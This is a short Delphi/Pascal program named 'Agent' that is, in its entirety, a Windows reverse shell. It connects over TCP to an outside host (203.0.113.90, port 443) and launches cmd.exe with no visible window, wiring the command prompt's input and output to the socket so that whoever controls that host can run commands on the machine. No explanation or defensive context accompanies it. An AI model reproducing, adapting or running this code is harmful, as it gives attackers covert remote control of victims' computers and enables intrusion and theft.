program Agent;
uses IdTCPClient, Windows, SysUtils;
var C: TIdTCPClient; SI: TStartupInfo; PI: TProcessInformation;
begin
  C := TIdTCPClient.Create(nil);
  C.Host := '203.0.113.90'; C.Port := 443;
  C.Connect;
  FillChar(SI, SizeOf(SI), 0); SI.cb := SizeOf(SI);
  SI.dwFlags := STARTF_USESTDHANDLES;
  SI.hStdInput := C.Socket.Binding.Handle; SI.hStdOutput := C.Socket.Binding.Handle; SI.hStdError := C.Socket.Binding.Handle;
  CreateProcess(nil, 'cmd.exe', nil, nil, True, CREATE_NO_WINDOW, nil, nil, SI, PI);
end.
